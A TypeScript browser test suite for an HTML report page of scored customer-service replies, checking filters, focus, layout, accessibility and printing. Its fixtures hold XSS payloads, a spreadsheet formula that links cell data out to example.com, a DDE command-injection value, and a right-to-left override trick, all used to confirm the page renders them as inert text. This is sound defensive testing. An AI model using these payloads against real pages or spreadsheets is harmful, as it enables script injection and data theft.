/**
 * The page of a report in a real browser. It needs Chromium at /usr/bin/chromium or where CHROMIUM says; without one
 * it is skipped, except in CI, where a missing browser is a failure.
 */

import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import process from 'node:process'
import { pathToFileURL } from 'node:url'
import axe from 'axe-core'
import { type Browser, chromium, type Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { main } from '../../src/cli/main.js'
import { reviewReply } from '../../src/review.js'
import { type ScoredReply, tally } from '../../src/tally/index.js'
import { finding, ioOf, spanOf } from '../cli/made.js'
import { teamOf } from '../tally/team.js'

const { CI, CHROMIUM = '/usr/bin/chromium' } = process.env
const isBuilt = existsSync(new URL('../../dist/report-page.html', import.meta.url))
const missing = !existsSync(CHROMIUM) ? `there is no ${CHROMIUM}` : !isBuilt ? 'dist is missing' : undefined

const team = teamOf(2000)

/** Scored so low that it is the first to read. */
function hostile(reply: string, customerMessage: string, agent: string): ScoredReply {
  const review = reviewReply(reply, { customerMessage })
  const found = finding(reply, spanOf(reply, reply.slice(0, 6)), { message: `<b>Say</b> "${reply}"` })
  return {
    id: '<svg onload=alert(1)>',
    agent,
    channel: '"><img src=x onerror=alert(2)>',
    date: '2026-02-01',
    reply,
    customerMessage,
    review: { ...review, score: 0, band: 'rework', findings: [found] },
  }
}
const script = hostile(
  'We <script>alert("reply")</script><img src="https://example.com/x.png"> are sorry.',
  '<style>*{display:none}</style><script>alert("message")</script> My lamp broke.',
  '<script>alert("agent")</script>',
)
const formula = hostile(
  '=HYPERLINK("https://example.com/?x="&A1,"Click")',
  '=cmd|" /C calc"!A0\u2028</script><!--',
  '=HYPERLINK("https://example.com")',
)
/** Long, and turning round what stands behind it. */
const longName = 'N'.repeat(300)
const long = hostile('Kindly note that.', 'My lamp broke.', `\u202e${longName}`)
const scored = [...team, script, formula, long]

let folder = ''
let browser: Browser
beforeAll(async () => {
  if (missing !== undefined) return
  folder = mkdtempSync(join(tmpdir(), 'unscripted-'))
  writeFileSync(join(folder, 'results.jsonl'), scored.map(one => `${JSON.stringify(one)}\n`).join(''))
  for (const [name, flags] of [
    ['page.html', []],
    ['bare.html', ['--no-text']],
  ] as const)
    expect(
      await main(['report', join(folder, 'results.jsonl'), '--out', join(folder, name), ...flags], ioOf()),
    ).toBe(0)
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    // Chromium’s own sandbox needs more rights than a container gives.
    args: process.getuid?.() === 0 ? ['--no-sandbox'] : [],
  })
})
afterAll(async () => {
  await browser?.close()
  if (folder !== '') rmSync(folder, { recursive: true })
})

interface Opened {
  readonly page: Page
  /** What the console said, and what was asked of any network. */
  readonly complaints: string[]
  readonly requests: string[]
}

async function opened(options: Parameters<Browser['newPage']>[0] = {}, name = 'page.html'): Promise<Opened> {
  const page = await browser.newPage({ viewport: { width: 1280, height: 900 }, ...options })
  const complaints: string[] = []
  const requests: string[] = []
  page.on('console', message => complaints.push(`${message.type()}: ${message.text()}`))
  page.on('pageerror', error => complaints.push(error.message))
  page.on('dialog', dialog => {
    complaints.push(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('request', request => requests.push(request.url()))
  await page.goto(pathToFileURL(join(folder, name)).href)
  return { page, complaints, requests }
}

const contentOf = (page: Page, id: string): Promise<string> => page.locator(`#${id} .content`).innerHTML()
const statusOf = (page: Page): Promise<string | null> => page.locator('#status').textContent()

describe.skipIf(missing !== undefined && CI !== 'true')(
  `the page in Chromium${missing === undefined ? '' : ` (skipped: ${missing})`}`,
  () => {
    it('opens from a file without a complaint or a request', async () => {
      const { page, complaints, requests } = await opened()
      expect(await statusOf(page)).toBe('All 2,003 replies')
      expect(await page.locator('#summary').textContent()).toContain(`${tally(scored).scores.median}`)
      expect(complaints).toEqual([])
      expect(requests).toEqual([pathToFileURL(join(folder, 'page.html')).href])
      await page.close()
    })

    it('draws every part anew when a filter changes, and says what is looked at', async () => {
      const { page, complaints } = await opened()
      const parts = [
        'work',
        'summary',
        'rules',
        'wins',
        'missing',
        'comparison',
        'agents',
        'channels',
        'phrases',
        'replies',
      ]
      const before = await Promise.all(parts.map(id => contentOf(page, id)))
      await page.selectOption('[name=agent]', 'Eun-ji')
      const own = team.filter(({ agent }) => agent === 'Eun-ji')
      expect(await statusOf(page)).toBe(`${own.length} of 2,003 replies, by Eun-ji`)
      for (const [i, id] of parts.entries()) expect(await contentOf(page, id), id).not.toBe(before[i])
      const { scores, rules } = tally(own)
      expect(await page.locator('#summary').textContent()).toContain(`mean ${scores.mean}`)
      expect(await page.locator('#rules tbody tr').count()).toBe(rules.length)
      // Beside the rest of the team still, though nobody else is looked at.
      expect(await page.locator('#agents tbody tr').count()).toBe(1)
      expect(await page.locator('#agents').textContent()).toContain('elsewhere')

      await page.selectOption('[name=channel]', 'Live chat')
      await page.selectOption('[name=rule]', 'canned-phrase')
      await page.fill('[name=from]', '2026-02-01')
      await page.fill('[name=to]', '2026-02-28')
      await page.locator('[name=to]').dispatchEvent('change')
      const rest = own.filter(
        ({ channel, date = '', review }) =>
          channel === 'Live chat' &&
          date.startsWith('2026-02') &&
          review.findings.some(({ ruleId }) => ruleId === 'canned-phrase'),
      )
      expect(await statusOf(page)).toBe(
        `${rest.length} of 2,003 replies, by Eun-ji, in Live chat, with “canned phrase”, from 1 Feb 2026, to 28 Feb 2026`,
      )
      await page.click('button[type=reset]')
      await page.locator('#status', { hasText: /^All/ }).waitFor()
      expect(await Promise.all(parts.map(id => contentOf(page, id)))).toEqual(before)
      expect(complaints).toEqual([])
      await page.close()
    })

    it('leads from a finding to replies with it, and from a mark to its reason', async () => {
      const { page } = await opened()
      await page.click('#work .card:first-child button')
      expect(await statusOf(page)).toMatch(/replies, with “/)
      expect(await page.evaluate('document.activeElement.id')).toBe('replies-title')
      const mark = page.locator('#replies article sup a').first()
      await mark.focus()
      expect(await mark.getAttribute('aria-label')).toMatch(/^Finding \d+, [a-z -]+: ./)
      await page.keyboard.press('Enter')
      const id = ((await mark.getAttribute('href')) ?? '').slice(1)
      expect(await page.evaluate('location.hash.slice(1)')).toBe(id)
      expect(await page.locator(`[id="${id}"]`).evaluate(element => element.matches(':target'))).toBe(true)
      await page.close()
    })

    it('draws no difference where there are too few replies for any', async () => {
      const { page } = await opened()
      expect(await page.locator('#comparison svg').count()).toBe(1)
      await page.fill('[name=from]', '2026-03-27')
      await page.selectOption('[name=agent]', 'Farouk')
      expect(await page.locator('#comparison').textContent()).toContain('too few to tell')
      expect(await page.locator('#comparison svg').count()).toBe(0)
      await page.close()
    })

    it('shows less at once on a narrow screen', async () => {
      const { page } = await opened({ viewport: { width: 390, height: 800 } })
      expect(await page.locator('#rules tbody tr:visible').count()).toBe(5)
      expect(await page.locator('#replies article').count()).toBe(3)
      await page.close()
    })

    it('puts the focus on the agents, where one is chosen there', async () => {
      const { page } = await opened()
      const agent = page.locator('#agents tbody button').first()
      await agent.focus()
      await page.keyboard.press('Enter')
      expect(await page.evaluate('document.activeElement.id')).toBe('agents-title')
      await page.close()
    })

    it('leaves out the finding that replies are chosen by, and counts the weeks without it', async () => {
      const { page } = await opened()
      // Found in few weeks, so that others are open too.
      const { rules, periods } = tally(scored)
      const weeks = periods.filter(({ replies }) => replies > 0).length
      const rare = rules.find(({ trend, replies }) => replies > 1 && trend.filter(n => n > 0).length < weeks)
      await page.selectOption('[name=rule]', rare?.id ?? '')
      const names = page.locator('#work h3, #rules tbody th .name, #comparison tbody th .name')
      const own = (rare?.id ?? '').replaceAll('-', ' ')
      const words = (await names.allTextContents()).map(words => words.toLowerCase())
      expect(words.length).toBeGreaterThan(0)
      expect(words).not.toContain(own)
      expect(await page.locator('#rules tbody').textContent()).toContain(` of ${weeks} weeks`)
      await page.close()
    })

    it('shows more replies on request, and puts the focus on the first of them', async () => {
      const { page } = await opened()
      await page.locator('#replies .kind:first-of-type .more').click()
      expect(await page.locator('#replies .kind').first().locator('article').count()).toBe(6)
      expect(await page.evaluate('document.activeElement.tagName')).toBe('H4')
      await page.close()
    })

    it('shows what looks like markup or a formula as text', async () => {
      const { page, complaints, requests } = await opened()
      const { reply: scripted, customerMessage: message } = script
      const texts = await page.locator('#replies article .text').evaluateAll(all =>
        all.map(one => {
          for (const number of one.querySelectorAll('sup')) number.remove()
          return one.textContent
        }),
      )
      expect(texts).toContain(scripted)
      expect(texts).toContain(message)
      expect(texts).toContain(formula.reply)
      expect(texts).toContain(formula.customerMessage)
      for (const { agent = '', channel = '' } of [script, formula]) {
        expect(await page.locator('[name=agent] option').allTextContents()).toContain(agent)
        expect(await page.locator('[name=channel] option').allTextContents()).toContain(channel)
        expect(await page.locator('#agents tbody').textContent()).toContain(agent)
      }
      await page.selectOption('[name=agent]', script.agent ?? '')
      expect(await statusOf(page)).toContain(`by ${script.agent}`)
      expect(await page.locator('main img, main script, main style, main b').count()).toBe(0)
      expect(complaints).toEqual([])
      expect(requests).toHaveLength(1)
      await page.close()
    })

    it.each(['light', 'dark'] as const)(
      'has no fault that axe finds, %s',
      { timeout: 180_000 },
      async colorScheme => {
        const { page } = await opened({ colorScheme })
        const faults = () =>
          page.evaluate(async () => {
            const { axe } = globalThis as unknown as {
              axe: {
                run(): Promise<{ violations: { id: string; nodes: { html: string }[] }[] }>
              }
            }
            const { violations } = await axe.run()
            return violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html}`)
          })
        // Evaluated from outside, which the page’s policy does not concern.
        await page.evaluate(axe.source)
        expect(await faults()).toEqual([])
        await page.setViewportSize({ width: 390, height: 800 })
        expect(await faults()).toEqual([])
        await page.close()
      },
    )

    it.each([320, 390, 768, 1280])('needs no sideways scrolling at %i pixels', async width => {
      const { page } = await opened({ viewport: { width, height: 800 } })
      await page.selectOption('[name=agent]', long.agent ?? '')
      expect(await page.locator('#phrases tbody').textContent()).toContain(longName)
      expect(await page.locator('#status').textContent()).toBe(`1 of 2,003 replies, by ${longName}`)
      expect(await page.content()).not.toMatch(/<(?:option|bdi)[^>]*>\u202e/)
      expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(width)
      await page.click('button[type=reset]')
      await page.locator('#status', { hasText: /^All/ }).waitFor()
      const wide = await page.evaluate(`[...document.querySelectorAll('body *')]
      .filter(one => one.scrollWidth > innerWidth || one.getBoundingClientRect().right > innerWidth + 1)
      .map(one => one.outerHTML.slice(0, 200))`)
      expect(wide).toEqual([])
      expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(width)
      await page.close()
    })

    it('prints without the filters, and says what was chosen', async () => {
      const { page } = await opened({ colorScheme: 'dark' })
      await page.selectOption('[name=agent]', 'Dewi')
      await page.emulateMedia({ media: 'print' })
      expect(await page.locator('[name=agent]').isVisible()).toBe(false)
      expect(await page.locator('nav').isVisible()).toBe(false)
      expect(await page.locator('#status').isVisible()).toBe(true)
      expect(await page.evaluate('getComputedStyle(document.body).backgroundColor')).toBe(
        'rgb(255, 255, 255)',
      )
      const rows = page.locator('#rules tbody tr')
      expect(await rows.last().isVisible()).toBe(true)
      expect((await page.pdf({ format: 'A4' })).length).toBeGreaterThan(10_000)
      await page.close()
    })

    it('without texts shows what was found, and no word of anybody', async () => {
      const { page, complaints } = await opened({}, 'bare.html')
      expect(await page.locator('#replies article').count()).toBeGreaterThan(0)
      expect(await page.locator('#replies .text, #replies mark, main q').count()).toBe(0)
      expect(await page.locator('#phrases').textContent()).toContain('made without texts')
      expect(complaints).toEqual([])
      await page.close()
    })
  },
)
